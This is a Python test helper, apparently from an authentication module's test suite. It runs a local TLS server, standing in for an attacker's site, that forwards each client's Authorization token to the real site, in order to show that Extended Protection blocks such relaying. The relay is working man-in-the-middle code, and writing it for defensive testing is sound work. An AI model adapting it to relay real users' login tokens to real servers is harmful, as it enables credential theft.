"""A relay: an attacker's site that forwards a client's login. Extended Protection stops it."""

import contextlib
import http.client
import http.server
import ssl
import threading


@contextlib.contextmanager
def to(site, certificate):
    """Serves TLS with a certificate of its own and forwards the tokens of each connection to
    `site`, on a connection of their own. Yields an object with the relay's `url`."""

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self):
            super().setup()
            context = ssl._create_unverified_context()
            self.upstream = http.client.HTTPSConnection(
                "127.0.0.1", site.apache.port, timeout=60, context=context
            )

        def finish(self):
            self.upstream.close()
            super().finish()

        def do_GET(self):
            token = self.headers.get("Authorization")
            headers = {"Authorization": token} if token else {}
            self.upstream.request("GET", self.path, headers=headers)
            answer = self.upstream.getresponse()
            body = answer.read()
            self.send_response(answer.status)
            for value in answer.headers.get_all("WWW-Authenticate", []):
                self.send_header("WWW-Authenticate", value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_words):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.url = f"https://127.0.0.1:{server.server_port}/"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
